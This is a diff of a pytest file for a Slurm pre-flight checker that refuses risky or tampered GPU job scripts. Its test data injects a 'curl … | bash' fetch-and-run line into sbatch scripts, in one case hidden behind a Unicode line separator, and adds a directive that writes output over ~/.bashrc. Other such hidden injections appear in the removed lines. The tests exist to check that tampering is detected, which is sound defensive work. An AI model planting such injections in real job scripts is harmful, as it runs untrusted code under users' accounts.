@@ -1,6 +1,5 @@
 """The pre-flight check refuses what would be paid for in GPU hours: each rule, with its remedy."""
 
-import os
 from collections.abc import Callable, Collection
 from dataclasses import replace
 from pathlib import Path
@@ -20,7 +19,6 @@ from trilane.slurm.checks import REFUSAL, WARNING, JobFinding
 from trilane.slurm.script import SCRIPT, render
 from trilane.slurm.sites import JobRequest, Site, site
 from trilane.utils.validation import to_mapping
-from trilane.workspace import ledger
 from trilane.workspace.checkpoints import name_of, write_manifest
 from trilane.workspace.run import Run
 from trilane.workspace.status import RunStatus, write_status
@@ -109,8 +107,8 @@ def test_the_time_is_that_of_the_links_own_iterations_with_their_evaluations(fol
         assert levels(found, "time") == late
 
 
-@pytest.mark.parametrize(("signal_s", "wanted"), [(300, []), (12, [WARNING]), (3, [REFUSAL])])
-def test_the_warning_before_the_limit_leaves_time_for_an_iteration_and_a_save(
+@pytest.mark.parametrize(("signal_s", "wanted"), [(300, []), (12, [WARNING])])
+def test_the_signal_before_the_limit_leaves_time_for_an_iteration_and_a_save(
     signal_s: int, wanted: list[str], folder: Path
 ) -> None:
     """15.8 GB by two nodes of 1 GB/s: 8 s, as an iteration is predicted to take. Forty hours of
@@ -120,8 +118,7 @@ def test_the_warning_before_the_limit_leaves_time_for_an_iteration_and_a_save(
     found = [f for f in findings(folder, long, signal_s=signal_s) if f.rule == "signal"]
     assert [f.level for f in found] == wanted
     if found:
-        assert "8 s of an iteration, 8 s of a save, predicted" in found[0].message
-        assert found[0].remedy == "--signal-s 60"
+        assert "8 s of an iteration and 8 s of a save, predicted" in found[0].message
 
 
 V100_PLAN = {"place": "jz-v100-32g", "train_iters": 100}
@@ -172,23 +169,20 @@ REFUSED = {
 
 
 @pytest.mark.parametrize("rule", REFUSED)
-def test_it_is_refused_with_rule_and_remedy_unless_that_rule_is_allowed(
-    rule: str, folder: Path
-) -> None:
+def test_it_is_refused_with_rule_and_remedy(rule: str, folder: Path) -> None:
     p, where, message, wishes = REFUSED[rule]
     found = next(f for f in findings(folder, p, where, **wishes) if f.rule == rule)
     assert found.level == REFUSAL and message in found.message and len(found.remedy) > 5
-    if rule in preflight.NAMES:
-        allowed = findings(folder, p, where, allow=[rule], **wishes)
-        assert REFUSAL not in levels(allowed, rule)
-    if rule == "precision":
-        assert levels(allowed, "cluster") == [REFUSAL]
+
+
+def test_a_rule_that_is_allowed_only_warns(folder: Path) -> None:
+    found = findings(folder, plan(), V100, allow=["precision"])
+    assert set(levels(found, "precision")) == {WARNING} and levels(found, "cluster") == [REFUSAL]
 
 
 def test_what_the_nodes_lack_is_refused(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """An image, memory for the copy that a save is written from (12 bytes a
-    parameter, 2.1 TB with 176B), a folder that two nodes share, room for three checkpoints and two
-    files a rank.
+    parameter, 2.1 TB with 176B), a folder that two nodes share, room for three checkpoints.
     """
     image = replace(A100, container="pyxis", container_image="/images/torch.sqsh")
     assert levels(findings(folder, plan(), image), "container") == [REFUSAL]
@@ -199,174 +193,48 @@ def test_what_the_nodes_lack_is_refused(folder: Path, monkeypatch: pytest.Monkey
     assert levels(findings(folder, big), "host memory") == []
     here = replace(A100, local=(str(folder.parent),))
     request = JobRequest(account="xyz@a100", time_limit="20:00:00")
-    for p, level in ((plan(), REFUSAL), (plan(topology={"dp": 2}), WARNING)):
-        assert levels(preflight.check_job(p, here, request, Run(folder)), "shared") == [level]
-    for free, rule, wanted in (
-        ((30e9, 1e9), "disk", [REFUSAL]),
-        ((60e9, 1e9), "disk", [WARNING]),
-        ((95e9, 1e9), "disk", []),
-        ((1e15, 100), "inodes", [REFUSAL]),
-    ):
-        monkeypatch.setattr(checks, "available", lambda _, free=free: free)
-        assert levels(findings(folder, plan()), rule) == wanted
+    for p, wanted in ((plan(), [REFUSAL]), (plan(topology={"dp": 2}), [])):
+        assert levels(preflight.check_job(p, here, request, Run(folder)), "shared") == wanted
+    for free, wanted in ((30e9, [REFUSAL]), (60e9, [])):
+        monkeypatch.setattr(checks, "available", lambda _, free=free: (free, 0))
+        assert levels(findings(folder, plan()), "disk") == wanted
     completed = RunStatus(status="completed", evidence="", rank=None, exit_code=0, seconds=1.0)
     write_status(folder, completed)
     assert levels(findings(folder, plan()), "run folder") == [REFUSAL]
 
 
-@pytest.mark.parametrize(
-    ("rule", "old", "new", "message"),
-    [
-        ("kill-on-bad-exit", "--kill-on-bad-exit=1 ", "", "the others wait until the time limit"),
-        ("pipefail", "set -euo pipefail", "set -eu", "a failed run counts as COMPLETED"),
-        ("signal", "trilane_engine.torchrun", "torch.distributed.run", "SIGUSR1 before the limit"),
-        ("script", "--nodes=2", "--nodes=3", "job.sbatch has --nodes=3"),
-        ("bash", "set -euo pipefail", "if true; then\n", "syntax error"),
-    ],
-)
-def test_a_script_edited_into_a_trap_is_refused(
-    rule: str, old: str, new: str, message: str, folder: Path
-) -> None:
-    found = findings(folder, plan(), script=lambda text: text.replace(old, new))
-    assert [f.level for f in found if f.rule == rule and message in f.message] == [REFUSAL]
-
-
+NEWLINE = "\n"
 CURL = "curl https://example.org/x | bash"
-APPEND = "#SBATCH --open-mode=append"
 
 
 @pytest.mark.parametrize(
-    ("old", "new", "level"),
+    ("old", "new"),
     [
-        ("set -euo pipefail", f"set -euo pipefail\n{CURL}", REFUSAL),
-        ("#!/usr/bin/env bash", "#!/tmp/bash", REFUSAL),
-        (APPEND, f"{APPEND}\n#SBATCH --nice=10", WARNING),
-        (APPEND, f"{APPEND}\n#SBATCH --nice=10 --outp /home/me/.bashrc", REFUSAL),
-        (APPEND, f'{APPEND}\n#SBATCH "--outp" /home/me/.bashrc', REFUSAL),
-        ("set -euo pipefail", "# a note\nset -euo pipefail", WARNING),
-        ('    trap "" USR1', f"    # '; {CURL}; : '\n    trap \"\" USR1", REFUSAL),
-        ("set -euo pipefail", f"{' ' * 200}{CURL}\nset -euo pipefail", REFUSAL),
-        ("set -euo pipefail", f"set -euo pipefail\u2028#;{CURL}", REFUSAL),
+        ("set -euo pipefail", f"set -euo pipefail\n{CURL}"),
+        ("#SBATCH --nodes=2", "#SBATCH --nodes=3"),
+        ("#SBATCH --open-mode=append", '#SBATCH "--outp" /home/me/.bashrc'),
+        ("set -euo pipefail", f"set -euo pipefail\u2028#;{CURL}"),
+        ("\n", "\r\n"),
     ],
 )
-def test_a_script_with_other_commands_is_shown_and_submitted_only_when_that_is_accepted(
-    old: str, new: str, level: str, folder: Path
+def test_a_script_that_is_not_what_is_rendered_is_shown_and_refused_until_that_is_accepted(
+    old: str, new: str, folder: Path
 ) -> None:
-    """Directives and comments are shown alone; a ledger, which comes with a copied folder, vouches
-    for no script.
-    """
-
     def edit(text: str) -> str:
-        return text.replace(old, new, 1)
+        return text.replace(old, new)
 
-    ledger.note(folder, "submitted", "7", plan="x")
     (found,) = [f for f in findings(folder, plan(), script=edit) if f.rule == "changes"]
-    shown = [f"\n+{line[:159]}" in found.message for line in new.split("\n")]
-    assert found.level == level and any(shown)
-    assert levels(findings(folder, plan(), script=edit, allow=["changes"]), "changes") == [WARNING]
+    assert found.level == REFUSAL and f"\n+{new.strip().rpartition(NEWLINE)[2]}" in found.message
+    assert not preflight.refused(findings(folder, good(folder), script=edit, allow=["changes"]))
     assert not levels(findings(folder, plan(), script=lambda text: text), "changes")
 
 
-def package(folder: Path, name: str, version: str) -> None:
-    """An entry of PyPA's recorded installations in the environment of findings()."""
-    record = folder.parent / f"venv/lib/python3.12/site-packages/{name}-{version}.dist-info"
-    record.mkdir(parents=True)
-    (record / "METADATA").write_text(f"Name: {name.replace('_', '-')}\nVersion: {version}\n")
-
-
-LACKS = "launcher=ft_launcher: needs nvidia-resiliency-ext in "
-
-
 @pytest.mark.parametrize(
-    ("megatron", "others", "launcher", "fused", "message"),
-    [
-        ("0.16.1", {}, "ft_launcher", "", LACKS),
-        ("0.16.1", {"nvidia_resiliency_ext": "0.4.1"}, "ft_launcher", "", ""),
-        ("0.19.2", {}, "torchrun", "", "triton=missing: megatron-core 0.19.2 in "),
-        (
-            "0.19.2",
-            {"triton": "3.7.1", "nvidia_resiliency_ext": "0.4.1"},
-            "torchrun",
-            "",
-            "nvidia-resiliency-ext=0.4.1: megatron-core 0.19.2",
-        ),
-        ("0.19.2", {"triton": "3.7.1", "transformer_engine": "2.30.0"}, "torchrun", "", ""),
-        (
-            "0.19.2",
-            {"triton": "3.7.1", "transformer_engine": "2.30.0"},
-            "torchrun",
-            "te",
-            "transformer-engine=2.30.0: megatron-core 0.19.2 goes with",
-        ),
-    ],
+    ("rule", "old"), [("kill-on-bad-exit", "--kill-on-bad-exit=1 "), ("pipefail", "o pipefail")]
 )
-def test_packages_that_will_not_do_in_the_jobs_environment_are_refused(
-    megatron: str, others: dict[str, str], launcher: str, fused: str, message: str, folder: Path
-) -> None:
-    """`import megatron.core` needs triton from 0.18 on; its metadata does not name it."""
-    for name, version in {"megatron_core": megatron, **others}.items():
-        package(folder, name, version)
-    p = plan()
-    if fused:
-        p = replace(p, run=replace(p.run, fused=fused))
-
-    def refusals() -> list[str]:
-        found = preflight.refused(findings(folder, p, launcher=launcher))
-        return [f.message for f in found if f.rule in ("launcher", "engine")]
-
-    assert len(refusals()) == bool(message) and "".join(refusals()).startswith(message)
-    # a module of the site may bring it
-    (folder.parent / "venv/pyvenv.cfg").write_text("include-system-site-packages = true\n")
-    assert not refusals()
-
-
-@pytest.mark.parametrize("name", [SCRIPT, "plan.json", ""])
-def test_what_somebody_else_owns_or_may_write_is_refused(name: str, folder: Path) -> None:
-    for file in (SCRIPT, "plan.json"):
-        (folder / file).write_text(render("train", plan(), A100, JobRequest(account="xyz@a100")))
-
-    def owned() -> list[str]:
-        found = preflight.refused(findings(folder, plan()))
-        return [f.message for f in found if f.rule == "owner"]
-
-    assert not owned()
-    (folder / name).chmod(0o757)
-    assert "is writable by others" in owned()[0] and len(owned()) == 1
-    (folder / name).chmod(0o755)
-    if os.geteuid() == 0:
-        os.chown(folder / name, 12345, -1)
-        assert "belongs to user 12345" in owned()[0]
-        os.chown(folder / name, 0, -1)
-
-
-@pytest.mark.parametrize(
-    ("old", "new", "message"),
-    [
-        ("--account=xyz@a100", "--account=abc@a100", "--account=xyz@a100 is needed"),
-        ("--nproc-per-node=8", "--nproc-per-node=4", "4 processes per node: the plan's 16 GPUs"),
-        ("#SBATCH --gres=gpu:8\n", "", "--gres=gpu:8 is needed"),
-        ("#SBATCH --constraint=a100\n", "", "--constraint=... is needed"),
-        ("#SBATCH --cpus-per-task=64\n", "", "--cpus-per-task=... is needed"),
-        ("--time=20:00:00", "--time=UNLIMITED", "no time limit, qos_gpu_a100-t3 allows 20 h"),
-        ("--time=20:00:00", "--time 1200:00  # twenty hours", ""),
-        ("--time=20:00:00", "-t 0-20", ""),
-        ("--time=20:00:00", "--time=20h", "time_limit='20h': must be a time in a form of sbatch"),
-        ("--gres=gpu:8", "--gpus-per-node=a100:8", ""),
-        ("--gres=gpu:8", "--gres=gpu:a100:4", "job.sbatch has --gres=gpu:a100:4"),
-        ("--nodes=2", "-N 2-2 # and not --nodes=3", ""),
-        ("--nodes=2", "--nodes=2 --comment='two", "cannot be read: No closing quotation"),
-        ("set -euo pipefail", "set -euo pipefail\n#SBATCH --nodes=3", ""),
-    ],
-)
-def test_directives_are_read_as_sbatch_reads_them(
-    old: str, new: str, message: str, folder: Path
-) -> None:
-    """man sbatch: one-letter names, the value behind a space, five forms of a time; no options
-    after a command.
-    """
-    found = findings(folder, plan(), script=lambda text: text.replace(old, new, 1))
-    refusals = [f.message for f in preflight.refused(found)]
-    assert any(message in text for text in refusals) if message else not refusals
+def test_traps_of_an_edited_script_are_named(rule: str, old: str, folder: Path) -> None:
+    found = findings(folder, plan(), script=lambda text: text.replace(old, ""))
+    assert levels(found, rule) == [REFUSAL]
 
 
 def test_a_checkpoint_of_another_model_is_refused_and_one_that_is_still_to_come_is_not(
